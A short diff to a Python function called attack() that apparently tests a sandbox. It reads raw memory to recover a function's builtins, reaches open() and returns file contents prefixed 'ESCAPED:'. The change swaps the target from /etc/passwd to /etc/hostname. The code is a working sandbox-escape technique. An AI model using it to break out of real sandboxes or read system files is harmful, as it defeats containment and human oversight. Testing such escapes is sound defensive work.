@@ -44,4 +44,4 @@ def attack():
     space = at(int.from_bytes(memory(id(function) + 16, 8), "little"))
     builtins = space["__builtins__"]
     opened = builtins["open"] if isinstance(builtins, dict) else builtins.open
-    return "ESCAPED: " + opened("/etc/passwd").read(20)
+    return "ESCAPED: " + opened("/etc/hostname").read(20)
